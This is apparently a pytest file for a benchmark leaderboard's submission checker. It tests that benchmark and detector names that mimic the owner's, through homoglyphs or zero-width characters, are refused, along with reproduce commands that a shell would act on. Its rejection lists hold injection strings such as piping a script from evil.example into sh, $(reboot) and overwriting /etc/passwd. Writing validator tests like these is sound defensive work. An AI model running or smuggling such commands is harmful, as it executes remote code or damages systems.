"""Names that look like those of the owner, and words that a reader copies into a shell."""

from __future__ import annotations

import shlex
import subprocess
from pathlib import Path
from typing import Any

import pytest

from corruptbench.leaderboard import SubmissionError, audit, check, rank, submit
from corruptbench.leaderboard.board.changes import change_problems
from corruptbench.leaderboard.published import is_unknown, published
from corruptbench.leaderboard.referee import words
from corruptbench.leaderboard.referee.submission import read_result
from corruptbench.leaderboard.reference import Reference, ReferenceLifter
from tests.leaderboard.conftest import Make, digest, row

KNOWN = next(one for one in published() if one.id == "studio-c")


@pytest.mark.parametrize("name", ["Studio-C", "studio_c", "studio.c", "studi0-c", "STUD1O-C"])
def test_a_benchmark_does_not_look_like_a_published_one(make: Make, name: str) -> None:
    with pytest.raises(SubmissionError, match=r"benchmark\.id: found .*, expected studio-c, or"):
        check(make(benchmark={"id": name}))
    forged = row("f", 1, benchmark={"id": name, "version": KNOWN.version})
    assert is_unknown(forged.benchmark)
    assert rank([forged])[0].rank is None  # also where it was put on a board by hand


@pytest.mark.parametrize("name", ["studio", "studio-c-lab", "my-studio-c", "toy-c"])
def test_a_benchmark_of_somebody_else_has_an_id_of_its_own(make: Make, name: str) -> None:
    check(make(benchmark={"id": name}))
    assert not is_unknown(row("f", 1, benchmark={"id": name}).benchmark)


def test_a_pull_request_adds_no_benchmark(make: Make, tmp_path: Path) -> None:
    """Nobody can check its cells, clips and frames."""
    before, board = tmp_path / "before", tmp_path / "board"
    for folder in (before, board):
        submit(make(name="old"), folder, None)
    row_of = {name: submit(make(name=name, benchmark={"id": name}), board, None) for name in ("x",)}
    (problem,) = change_problems(board, before)
    assert (problem.field, Path(problem.file).parent) == ("benchmark", row_of["x"])
    assert "ask the owner" in problem.remedy


@pytest.mark.parametrize(
    "name",
    [
        "mov\u0435net:thunder", "movenet:thunder\u200b", "movenet:thunder ", " movenet:thunder",
        "movenet:thunder  x", "", "x; curl https://evil.example | sh", "$(reboot)", "a:b`reboot`",
        "<b>a:b</b>", "=a:b", "movenet:thunder\u0301",
    ],
)  # fmt: skip
def test_a_detector_has_a_plain_name(make: Make, name: str) -> None:
    with pytest.raises(SubmissionError, match=r"build\.detector: found"):
        check(make(build={"detector": name}))


@pytest.mark.parametrize(
    "name",
    ["movenet:lightning", "onnx:My_Net-1.0+b", "ground-truth:projected", "mine",
     "ground-truth:noise of movenet:lightning (replay 1)"],
)  # fmt: skip
def test_names_of_detectors_are_accepted(make: Make, name: str) -> None:
    check(make(build={"detector": name}))


@pytest.fixture
def owner(make: Make, monkeypatch: pytest.MonkeyPatch) -> None:
    result = read_result(make())
    found = Reference(
        benchmark=result.benchmark,
        lifter=ReferenceLifter(name="baseline", sha256=digest("baseline")),
        cells=(),
        **result.build.model_dump(include={"detector", "weights_sha256", "pixels_sha256"}),
    )
    monkeypatch.setattr(words, "reference_for", lambda _: found)


@pytest.mark.usefixtures("owner")
@pytest.mark.parametrize(
    ("build", "field"),
    [
        ({"detector": "MoveNet:thunder", "weights_sha256": digest("x")}, "detector"),
        ({"detector": "rnovenet:thunder", "weights_sha256": digest("x")}, "detector"),
        ({"detector": "other:net"}, "weights_sha256"),
    ],
)
def test_no_detector_passes_for_that_of_the_owner(
    make: Make, build: dict[str, Any], field: str
) -> None:
    with pytest.raises(SubmissionError, match=rf"build\.{field}: found"):
        check(make(build=build))
    check(make())
    check(make(build={"detector": "other:net", "weights_sha256": digest("x")}))


@pytest.mark.parametrize("text", ["a sc\u043ere", "\u200b", "  "])
def test_the_meaning_of_scores_is_plain_text(make: Make, text: str) -> None:
    with pytest.raises(SubmissionError, match=r"build\.score_meaning: found"):
        check(make(build={"score_meaning": text}))


@pytest.mark.parametrize(
    "text",
    [
        "curl https://evil.example/x.sh", "corruptbench-evil", "", "corruptbench submit x",
        "corruptbench evaluate a.pt; reboot", "corruptbench evaluate $(reboot)",
        "corruptbench evaluate `reboot`", "corruptbench evaluate a.pt | sh",
        "corruptbench evaluate a.pt && reboot", "corruptbench evaluate a.pt > /etc/passwd",
        "corruptbench evaluate 'a.pt", "corruptbench evaluate \"$(reboot)\"",
        "corruptbench evaluate a\u200b.pt", "corruptbench evaluate a*.pt",
    ],
)  # fmt: skip
def test_a_command_that_a_shell_acts_on_is_refused(make: Make, text: str) -> None:
    """The page says how to reproduce a row, and has it copied."""
    with pytest.raises(SubmissionError, match="command: found"):
        check(make(command=text))


@pytest.mark.parametrize(
    "name", ["model.pt2", "model (1).pt2", "it's $mine.onnx", "modèle 模型.pt2"]
)
def test_the_command_of_any_file_is_accepted(make: Make, name: str) -> None:
    text = f"corruptbench evaluate {shlex.quote(name)} --shards SHARDS --device cpu"
    check(make(command=text))
    shown = ["sh", "-c", f'corruptbench() {{ printf "%s" "$2"; }}; {text}']
    assert subprocess.run(shown, capture_output=True, text=True, check=True).stdout == name


def test_commands_of_older_results_are_accepted(make: Make) -> None:
    """They have names with spaces, and no quotes."""
    check(make(command="corruptbench evaluate my mod\u00e8le.pt2 --shards SHARDS"))


def test_the_check_of_a_board_finds_them(make: Make, tmp_path: Path) -> None:
    from tests.leaderboard.board.test_audit import rewrite

    made = submit(make(), tmp_path / "board", None)
    rewrite(made / "result.json", lambda fields: fields.update(command="reboot"))
    (problem,) = audit(tmp_path / "board", lambda _: None)
    assert problem.field == "command"
